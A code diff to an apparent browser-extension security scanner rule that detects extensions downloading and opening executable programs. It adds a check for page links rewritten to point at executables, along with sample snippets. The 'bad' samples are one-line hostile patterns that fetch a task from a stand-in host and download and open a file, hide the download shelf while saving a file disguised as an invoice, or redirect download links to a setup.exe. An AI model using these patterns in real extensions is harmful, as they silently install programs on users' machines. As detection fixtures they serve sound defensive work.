@@ -1,7 +1,10 @@
-import { callsOf, Op, pattern, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { callsOf, Op, pattern, propertyOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
-import { backgroundExample, checkScripts } from './checkScripts.ts';
-import { isFromServer } from './network.ts';
+import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
+import { tagOf } from './codeRuns.ts';
+import { isFromServer, leadsOut } from './network.ts';
+import { runsInPages } from './places.ts';
+import { few } from './usage.ts';
 
 const PROGRAM = /\.(exe|msi|scr|bat|cmd|ps1|vbs|hta|jar|dmg|pkg|app|deb|rpm|sh|appimage|lnk|iso|apk)(\?|#|$)/i;
 
@@ -16,7 +19,13 @@ export const opensDownloadedProgram = defineRule({
   references: ['https://attack.mitre.org/techniques/T1105/'],
   why: 'A program outside the browser has the whole machine. An extension that brings one with it leaves the limits that browsers set for extensions.',
   remedy: 'Link to the page from which people can download the program themselves.',
-  check: checkScripts(function* ({ script, hit }) {
+  check: checkScripts(function* ({ script, file, facts, hit }) {
+    if (runsInPages(facts, file.path)) {
+      for (const write of few(writesOf(script, 'href'), 200)) {
+        const to = pattern(script, write.value);
+        if (leadsOut(to) && PROGRAM.test(to) && tagOf(script, write.object) !== 'a') yield hit(write.value, { evidence: to, message: 'Links of pages are made to lead to this program.' });
+      }
+    }
     const opens = callsOf(script, 'chrome.downloads.open', 'chrome.downloads.acceptDanger');
     for (const call of callsOf(script, 'chrome.downloads.download')) {
       const address = propertyOf(script, call.args[0] ?? 0, 'url');
@@ -33,8 +42,10 @@ export const opensDownloadedProgram = defineRule({
       backgroundExample('chrome.downloads.download({ url: "https://x.example/setup.exe", filename: "update.exe" });'),
       backgroundExample('fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));'),
       backgroundExample('fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });'),
+      contentExample('document.querySelectorAll("a[download]").forEach((a) => { a.href = "https://get.example/setup.exe?n=" + a.textContent; });'),
     ],
     good: [
+      contentExample('const a = document.createElement("a"); a.href = "https://tool.example/helper.exe"; a.textContent = "Install the helper"; panel.append(a);'),
       backgroundExample('fetch("https://api.example.com/media").then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.u, filename: j.title + ".mp4" }));'),
       backgroundExample('chrome.downloads.download({ url: canvas.toDataURL(), filename: "shot.png" });'),
       backgroundExample('chrome.downloads.onChanged.addListener((d) => { if (d.state) show(d.id); }); button.onclick = () => chrome.downloads.open(id);'),
